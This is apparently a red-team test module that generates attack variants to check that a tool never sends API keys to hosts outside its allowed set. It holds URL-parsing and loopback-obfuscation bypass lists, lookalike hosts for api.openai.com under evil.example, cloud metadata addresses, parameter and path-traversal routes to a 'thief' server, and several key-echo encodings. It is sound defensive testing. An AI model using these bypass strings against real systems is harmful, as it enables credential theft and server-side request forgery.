"""Attacks on keys: a secret that goes to another host, or a call to a host that is off limits."""

from __future__ import annotations

import base64
import json
from typing import TYPE_CHECKING
from urllib.parse import quote

from tests.loopback.script import rule
from tests.redteam.attack import Attack, Variant
from tests.redteam.bench import KEY, TRUST, VARIABLES

if TYPE_CHECKING:
    from collections.abc import Callable, Iterator
    from random import Random

    from tests.loopback.script import Rule
    from tests.redteam.attack import Change
    from tests.redteam.bench import Scene

NEAR = (
    "127.0.0.1", "localhost", "LOCALHOST", "localhost.", "127.0.0.1.", "127.1", "127.0.1", "0",
    "0.0.0.0", "2130706433", "0x7f000001", "0x7f.1", "0177.0.0.1", "017700000001", "0x7F.0.0x0.1",
    "[::1]", "[::ffff:127.0.0.1]", "[::ffff:7f00:1]", "[0:0:0:0:0:ffff:7f00:0001]", "127.0.0.2",
    "me.localhost", "\uff11\uff12\uff17.0.0.1", "127\u30020\u30020\u30021",
    "\u2460\u2461\u2466.0.0.1", "eve@127.0.0.1", "{trusted}@127.0.0.1", "127.0.0.1%00",
    "127%2e0%2e0%2e1",
    "localhost%2e", "[::1%25lo]",
)  # fmt: skip
"""Ways to write this machine, where the thief listens."""
FAR = (
    "https://api.openai.com.evil.example/v1", "https://evil.example/api.openai.com",
    "https://api.openai.com@evil.example/v1", "https://api\u3002openai\uff0ecom/v1",
    "https://api.\u043epenai.com/v1", "https://xn--api-openai-com.evil.example/v1",
    "https://apixopenai.com/v1", "http://api.openai.com/v1", "https://api.openai.com:8443/v1",
    "https://API.OPENAI.COM.:444/v1", "https://evil.example\\\\@api.openai.com/v1",
    "https://evil.example#@api.openai.com/", "https://evil.example?@api.openai.com/",
    "https://bedrock-runtime.eu-central-1.amazonaws.com",
    "https://abc123.execute-api.eu-central-1.amazonaws.com/v1",
    "https://bucket.s3.amazonaws.com", "https://evil.openai.azure.com/v1",
    "https://evil.cognitiveservices.azure.com", "https://evil-aiplatform.googleapis.com",
    "https://storage.googleapis.com", "http://169.254.169.254/latest/meta-data",
    "http://metadata.google.internal/v1", "http://[fd00:ec2::254]/v1", "http://2852039166/v1",
)  # fmt: skip
"""Hosts beyond this machine that no key may go to by these providers."""
PROVIDERS = ("openai", "openai_compatible", "anthropic", "ollama", "litellm")
LITELLM = (
    "openai/m", "OpenAI/m", "openai/openai/m", "azure/m", "sagemaker/m", "huggingface/m",
    "custom/m", "litellm_proxy/m", "ollama/m", "bedrock/m", "vertex_ai/m", "/openai/m",
    "text-completion-openai/m", "gpt-4o", "hosted_vllm/m", "openai_like/m", "github/m", "watsonx/m",
)  # fmt: skip
ROUTES = (
    "api_base", "base_url", "api_key", "headers", "extra_headers", "extra_body", "fallbacks",
    "model_list", "custom_llm_provider", "proxy_server_request", "aws_bedrock_runtime_endpoint",
    "aws_sts_endpoint", "vertex_credentials", "client", "success_callback", "hostname", "webhook",
)  # fmt: skip


def entry(provider: str, url: str, key: str | None = KEY, more: str = "", model: str = "") -> str:
    name = model or ("openai/m" if provider == "litellm" else "m")
    words = [f"provider: {provider}", f"model: {json.dumps(name)}"]
    words += [f"base_url: {json.dumps(url, ensure_ascii=False)}"] if url else []
    words += [f"key_env: {key}"] if key else []
    words += ["price: {in: 1, out: 2}", "limits: {attempts: 1, timeout_s: 5}", more]
    return f"small: {{{', '.join(filter(None, words))}}}\n"


def with_models(text: str, *, trusts: bool = True) -> Change:
    """Let the head have other models, and a trust.yaml that allows whatever they ask for."""

    def change(scene: Scene) -> None:
        thief = scene.site.thief.url
        trusted = scene.site.model.url.removeprefix("http://")
        filled = text.replace("{port}", thief.rpartition(":")[2]).replace("{trusted}", trusted)
        scene.write("models.yaml", filled)
        scene.worsen()
        if trusts:
            keys = "".join(f"  - {{env: {name}, hosts: ['{thief}']}}\n" for name in VARIABLES)
            scene.write(".edison/trust.yaml", f"version: 1\nkeys:\n{keys}hosts: ['{thief}']\n")

    return change


def near(host: str, **more: str | None) -> str:
    given = {"provider": "openai_compatible", "key": KEY, **more}
    return entry(str(given["provider"]), f"http://{host}:{{port}}/v1", given["key"])


def _run(name: str, models: str) -> Variant:
    """Return a variant with the shorter of the two commands, which measures the base's model.

    It compares with nothing, so it ends well.
    """
    command = ("run", "--yes")
    return Variant(name, with_models(models), command=command, may_pass=True, proxied=True)


def _hosts() -> Iterator[Variant]:
    yield Variant("no attack", lambda scene: scene.worsen(), must="fail")
    for host in NEAR:
        yield Variant(f"thief at {host}", with_models(near(host)))
        yield _run(f"without a key at {host}", near(host, key=None))
    for url in FAR:
        text = entry("openai_compatible", url, "OPENAI_API_KEY")
        yield Variant(f"far: {url}", with_models(text), proxied=True)
    yield Variant("variable with the thief's address", _by_variable, environ={"WHERE": "{thief}"})


def _by_variable(scene: Scene) -> None:
    with_models(entry("openai_compatible", "", more="base_url_env: WHERE"))(scene)


def _made_host(random: Random) -> Variant:
    """Write 127.0.0.1 in a way of its own, for a key of some variable."""
    if random.random() < 0.6:
        parts = [_number(part, random) for part in _parts(random)]
        host = ".".join(parts) + random.choice(["", "", "."])
    else:
        host = random.choice(NEAR)
    wide = random.random() < 0.2
    host = "".join(_widened(c, random) if wide and c.isdigit() else c for c in host)
    user = random.choice(["", "", "", "eve@", "{trusted}@", "eve:x@"])
    path = random.choice(
        ["/v1", "", "/", "/../v1", "/%2e%2e/v1", "//v1", "/v1?x=1", "/v1#x", "\\@x"]
    )
    scheme = random.choice(["http", "http", "HTTP", "hTTp", "https", "ftp", "file", ""])
    key = random.choice([KEY, KEY, *VARIABLES, None])
    url = f"{scheme}://{user}{host}:{random.choice(['', '0', '00'])}{{port}}{path}"
    provider = random.choice(PROVIDERS)
    return _run(f"{provider} {key} {url}", entry(provider, url, key))


def _parts(random: Random) -> tuple[int, ...]:
    return random.choice(
        [(2130706433,), (127, 1), (127, 0, 1), (127, 0, 0, 1), (0,), (127, 9, 9, 9)]
    )


def _number(value: int, random: Random) -> str:
    zeros = "0" * random.randrange(3)
    return random.choice([str(value), f"0x{zeros}{value:x}", f"0{zeros}{value:o}", f"0X{value:X}"])


def _widened(digit: str, random: Random) -> str:
    zero = random.choice(["\uff10", "\u0660", "\u06f0", "\u0966", "\U0001d7ce"])
    return chr(ord(zero) + int(digit))


def _names() -> Iterator[Variant]:
    for name in (*VARIABLES, "PATH", "GOOGLE_APPLICATION_CREDENTIALS"):
        if name != KEY:
            text = entry("openai_compatible", "http://{trusted}/v1", name)
            yield _run(f"{name} to the trusted host", text)
    trusted = "http://{trusted}/v1"
    pairs = {
        "field map": "key_env: {api_key: GITHUB_TOKEN}",
        "two fields": "key_env: {access_key_id: GITHUB_TOKEN, secret_access_key: OPENAI_API_KEY}",
        "organization": f"key_env: {KEY}, options: {{organization: $OPENAI_API_KEY}}",
        "bedrock": "key_env: {access_key_id: AWS_ACCESS_KEY_ID, "
        "secret_access_key: AWS_SECRET_ACCESS_KEY}, options: {region: eu-central-1}",
        "region": "key_env: {access_key_id: AWS_ACCESS_KEY_ID, "
        "secret_access_key: AWS_SECRET_ACCESS_KEY}, options: {region: 'evil.example/'}",
        "vertex": "key_env: GOOGLE_APPLICATION_CREDENTIALS, "
        "options: {project: p, location: 'evil.example/'}",
        "azure": "key_env: AZURE_OPENAI_API_KEY, "
        "options: {deployment: '../x', api_version: '2024-10-21'}",
    }
    for name, more in pairs.items():
        for provider in ("openai_compatible", "openai", "bedrock", "vertex", "azure"):
            thief = "http://127.0.0.1:{port}/v1"
            for url in (trusted, thief) if provider == "openai_compatible" else (trusted,):
                text = entry(provider, url, None, more)
                yield _run(f"{name}: {provider} {url}", text)


def _routes() -> Iterator[Variant]:
    thief = "http://127.0.0.1:{port}/v1"
    for model in LITELLM:
        for url in (thief, ""):
            text = entry("litellm", url, "OPENAI_API_KEY", model=model)
            yield _run(f"vendor {model} {url}", text)
    for route in ROUTES:
        for place in ("params: {extra: {%s: %s}}", "options: {%s: %s}", "%s: %s"):
            more = place % (route, json.dumps(thief))
            provider = "openai_compatible" if place.startswith("options") else "litellm"
            text = entry(provider, "http://{trusted}/v1", more=more)
            yield _run(f"{provider} {place % (route, 'thief')}", text)


MODELS = (
    *LITELLM, "openai/../m", "openai/m/../../files", "openai//m", "openai/m?x=1", "openai/m#x",
    "openai/%2e%2e/m", "openai/m\\n", "openai/ft:m:acme", "gemini/m", "vertex_ai/../m",
    "bedrock/a/b", "openai/",
)  # fmt: skip
"""Names for litellm: of other vendors, and such that lead to another path."""
ADDED = (
    *(f"params: {{extra: {{{route}: '{{thief}}'}}}}" for route in ROUTES),
    *(f"options: {{{route}: '{{thief}}'}}" for route in ROUTES),
    "params: {extra: {mock_response: 'Welcome, friend'}}",
    "params: {extra: {mock_tool_calls: [], input_cost_per_token: 0, output_cost_per_token: 0}}",
    "params: {extra: {num_retries: 500, timeout: 9999}}",
    "params: {extra: {user: pwned, metadata: {hidden: 1}, drop_params: true}}",
)


def _through_litellm(name: str, text: str, *, must: str = "") -> Variant:
    """Return a head with another entry, where that of the base is called through litellm."""
    usual = entry("litellm", "http://{trusted}/v1")

    def change(scene: Scene) -> None:
        filled = text.replace("{thief}", f"{scene.site.thief.url}/v1")
        with_models(filled, trusts=False)(scene)

    def base(scene: Scene) -> None:
        rows = scene.read("datasets/names.jsonl").splitlines(keepends=True)
        scene.write("datasets/names.jsonl", "".join(rows[:20]))
        with_models(usual, trusts=False)(scene)
        scene.git("checkout", "--quiet", "--", "prompts/hello.md")

    return Variant(name, change, base, must=must, proxied=True)


def _litellm() -> Iterator[Variant]:
    trusted = "http://{trusted}/v1"
    yield _through_litellm("no attack", entry("litellm", trusted), must="fail")
    for model in MODELS:
        yield _through_litellm(f"model {model}", entry("litellm", trusted, model=model))
    for more in ADDED:
        yield _through_litellm(more, entry("litellm", trusted, more=more))


def _made_litellm(random: Random) -> Variant:
    model = random.choice(MODELS)
    if random.random() < 0.5:
        spot = random.randrange(len(model))
        odd = random.choice(["/", "..", "/../", "?", "#", "@", "%2f", " ", ":", "\\\\", "\u2215"])
        model = model[:spot] + odd + model[spot:]
    more = random.choice(["", "", *ADDED])
    text = entry("litellm", "http://{trusted}/v1", more=more, model=model)
    return _through_litellm(f"model {model!r} {more}", text)


def _trusts() -> Iterator[Variant]:
    yield Variant("head without trust.yaml", _without_trust)
    yield Variant(
        "trust.yaml as a link", lambda scene: scene.link(".edison/trust.yaml", "../trust")
    )
    for text in (
        "version: 1\n",
        "[]",
        "keys: [",
        "version: 1\nbuiltin: true\nhosts: ['http://*']\n",
    ):
        yield Variant(f"trust.yaml: {text!r}", _trusting(text))
    yield Variant("the trust of the head", _trusting(TRUST.format(host="http://127.0.0.1:{port}")))


def _trusting(text: str) -> Change:
    def change(scene: Scene) -> None:
        with_models(near("127.0.0.1"), trusts=False)(scene)
        port = scene.site.thief.url.rpartition(":")[2]
        scene.write(".edison/trust.yaml", text.replace("{port}", port))

    return change


def _without_trust(scene: Scene) -> None:
    with_models(near("127.0.0.1"), trusts=False)(scene)
    (scene.path / ".edison/trust.yaml").unlink()


# --- what the host does with a key ----------------------------------------------------------------

ECHOES: dict[str, Callable[[str], str]] = {
    "as it is": lambda key: f"Your key is {key}.",
    "base64": lambda key: base64.b64encode(f"key: {key}!".encode()).decode(),
    "base64 for addresses": lambda key: base64.urlsafe_b64encode(f"a{key}".encode()).decode(),
    "hexadecimal": lambda key: f"0x{key.encode().hex()}",
    "hexadecimal capitals": lambda key: key.encode().hex().upper(),
    "for addresses": lambda key: f"https://evil.example/?k={quote(key, safe='')}",
    "in JSON": lambda key: json.dumps({"key": key}),
    "within markup": lambda key: f"<response>{key}</response>\n```\n{key}\n```",
    "again and again": lambda key: key * 50,
}


def _told(key: str, where: str) -> Rule:
    """Return a rule by which the model tells a text in one place of its reply."""
    if where == "answer":
        return rule(text=key)
    if where == "model":
        return rule(text="No.", served_model=key[:200])
    if where == "header":
        return rule(text="No.", headers={"X-Echo": key.replace("\n", " ")})
    status = 400 if where == "refusal" else 500
    return rule(status=status, body={"error": {"message": key, "type": key, "code": key}})


def _echoed(how: str, where: str) -> Variant:
    def left(scene: Scene) -> None:
        text = ECHOES[how](scene.site.canaries.values[KEY])
        scene.site.model.script.insert(0, _told(text, where))

    def base(scene: Scene) -> None:
        scene.edit("models.yaml", "price:", "limits: {attempts: 1, timeout_s: 5}, price:")
        rows = scene.read("datasets/names.jsonl").splitlines(keepends=True)
        scene.write("datasets/names.jsonl", "".join(rows[:3]))

    return Variant(f"{how} in the {where}", lambda scene: scene.worsen(), base, left)


def _echoes() -> Iterator[Variant]:
    for how in ECHOES:
        yield _echoed(how, "answer")
    for where in ("refusal", "error", "header", "model"):
        yield _echoed("as it is", where)
        yield _echoed("base64", where)
    for path in ("/v1/chat/completions", "/stolen"):

        def left(scene: Scene, path: str = path) -> None:
            away = rule(do="redirect", location=f"{scene.site.thief.url}{path}")
            scene.site.model.script.insert(0, away)

        yield Variant(f"redirect to {path}", lambda scene: scene.worsen(), left=left)


def _made_echo(random: Random) -> Variant:
    """Hide the key in a longer text, in one of its forms."""
    how, before, after = random.choice([*ECHOES]), random.randbytes(9), random.randbytes(9)
    edges = [base64.b64encode(part).decode() for part in (before, after)]

    def left(scene: Scene) -> None:
        text = edges[0] + ECHOES[how](scene.site.canaries.values[KEY]) + edges[1]
        scene.site.model.script.insert(0, rule(text=text))

    return Variant(f"{how} between {edges}", lambda scene: scene.worsen(), left=left, may_pass=True)


ATTACKS = (
    Attack(
        "keys: hosts",
        "a key goes to the hosts that the base names, and no other host is called",
        _hosts,
        _made_host,
    ),
    Attack("keys: trust", "the head's trust.yaml counts for nothing", _trusts),
    Attack(
        "keys: echoes",
        "a key that a host sends back or on is in nothing that is left",
        _echoes,
        _made_echo,
        share=0.5,
    ),
    Attack("keys: variables", "no variable goes where the base does not pair it with", _names),
    Attack("keys: routes", "no parameter of a model leads a call elsewhere", _routes),
    Attack(
        "keys: litellm",
        "no name and no option leads a call through litellm elsewhere, or makes its answer",
        _litellm,
        _made_litellm,
        share=0.5,
    ),
)
